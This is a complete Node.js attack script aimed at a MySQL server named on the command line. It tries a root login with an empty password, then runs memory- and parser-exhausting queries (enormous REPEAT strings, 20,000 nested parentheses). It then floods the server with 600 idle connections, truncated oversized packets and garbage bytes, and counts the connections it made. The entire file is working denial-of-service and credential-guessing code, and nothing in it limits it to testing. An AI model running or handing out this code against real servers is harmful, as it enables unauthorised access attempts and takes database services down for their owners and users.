// A bad day for a MySQL server at HOST: greedy roots, and then for MS idle connections, packets that never end, and garbage. Prints
// how many connections were made.
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import mysql from 'mysql2';

const [host, ms] = process.argv.slice(2);
const IDLE = 600;
const AT_ONCE = 40;
const STAY_MS = 4_000;
const GARBAGE = Buffer.alloc(65_536, 0xa5);
/** Roots who are let in and ask for more than there is. */
const ROOTS = 4;
const ROOTS_MS = 15_000;
const GREEDY = [
  "SELECT REPEAT('A', 100000000), REPEAT(REPEAT('B', 65535), 65535)",
  `SELECT '${'x'.repeat(1_000_000)}'`,
  `SELECT ${'('.repeat(20_000)}1${')'.repeat(20_000)}`,
];
let made = 0;

function open(onConnect) {
  const socket = connect({ host, port: 3306 });
  made++;
  socket.on('error', () => {});
  socket.on('connect', () => onConnect(socket));
  return socket;
}

/** Resolves once everything was asked and answered somehow. */
function greedyRoot() {
  const root = mysql.createConnection({ host, user: 'root', password: '', connectTimeout: ROOTS_MS });
  made++;
  root.on('error', () => {});
  return Promise.all(GREEDY.map((statement) => new Promise((resolve) => root.query(statement, resolve))));
}

const DEEDS = [
  // A packet said to be 16 MB long, of which 1 MB comes.
  (socket) => {
    socket.write(Buffer.from([0xff, 0xff, 0xff, 1]));
    for (let part = 0; part < 16; part++) socket.write(GARBAGE);
  },
  (socket) => socket.write(GARBAGE),
];

await Promise.race([Promise.all(Array.from({ length: ROOTS }, greedyRoot)), sleep(ROOTS_MS)]);
for (let at = 0; at < IDLE; at++) open(() => {});
const end = Date.now() + Number(ms);
const busy = new Set();
const timer = setInterval(() => {
  if (Date.now() > end) {
    clearInterval(timer);
    console.log(made);
    process.exit(0);
  }
  if (busy.size >= AT_ONCE) return;
  const socket = open(DEEDS[made % DEEDS.length]);
  busy.add(socket);
  setTimeout(() => socket.destroy(), STAY_MS);
  socket.on('close', () => busy.delete(socket));
}, 20);
